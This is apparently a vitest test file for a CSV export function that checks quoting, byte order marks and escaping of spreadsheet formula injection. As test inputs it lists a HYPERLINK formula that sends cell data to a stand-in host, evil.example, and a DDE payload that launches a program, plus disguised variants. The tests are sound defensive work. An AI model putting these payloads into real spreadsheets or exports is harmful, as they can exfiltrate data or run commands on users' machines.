import { expect, it } from 'vitest'
import { csvOf } from './save-csv.ts'

const lines = (...rows: string[][]) => csvOf(rows).replace('\uFEFF', '').trimEnd().split('\r\n')

it('writes what spreadsheets read: a byte order mark, doubled quotes, commas and line breaks in cells', () => {
  expect(csvOf([['नाम']])).toBe('\uFEFF"नाम"\r\n')
  expect(lines(["Joseph D'Souza", 'says "hello", twice'])).toEqual([
    `"Joseph D'Souza","says ""hello"", twice"`,
  ])
})

it.each([
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"see")',
  '+919886000011',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
])('escapes formulas: %j', text => {
  expect(csvOf([['Farida', text]])).toBe(`\uFEFF"Farida","'${text.replaceAll('"', '""')}"\r\n`)
})

it('leaves negative amounts as numbers, so that a column adds up', () => {
  expect(lines(['-1250.50', '-3', '-3-1'])).toEqual([`"-1250.50","-3","'-3-1"`])
})

it('prevents breaking out of a cell to start another with a formula', () => {
  expect(csvOf([['x","=1+1'], ['x"\r\n=1+1']])).toBe('\uFEFF"x"",""=1+1"\r\n"x""\r\n=1+1"\r\n')
})

it('leaves names unchanged that no spreadsheet reads as a formula', () => {
  expect(lines(['Anne-Marie', 'R=K', ' Aarav', 'नेहा', ''])).toEqual(['"Anne-Marie","R=K"," Aarav","नेहा",""'])
})
